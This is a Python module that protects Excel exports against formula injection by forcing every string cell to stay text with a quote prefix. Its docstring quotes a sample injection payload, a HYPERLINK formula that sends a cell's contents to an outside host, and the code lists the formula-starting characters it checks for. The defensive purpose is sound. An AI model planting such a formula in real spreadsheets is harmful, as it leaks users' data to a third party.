"""Excel exports that write text as text: no cell of data ever becomes a formula.

openpyxl stores a string that starts with ``=`` as a formula, so a surname like
``=HYPERLINK("http://x.io/"&G2,"Открыть")`` received from outside would run in the
operator's Excel (formula injection). Every export of the console and its extensions
appends rows through :func:`append_row`, which keeps each string an explicit text cell
(``t="inlineStr"``) with Excel's quote prefix, so that even editing the cell later does
not turn it into a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
"""First characters that make a spreadsheet read a cell as a formula (or hide one)."""


def is_risky(value: Any) -> bool:
    """Whether a value would be taken for a formula by openpyxl or by Excel."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append one row; every string stays text, whatever it starts with."""
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row=row, column=column)
            cell.data_type = "s"
            if is_risky(value):
                cell.quotePrefix = True
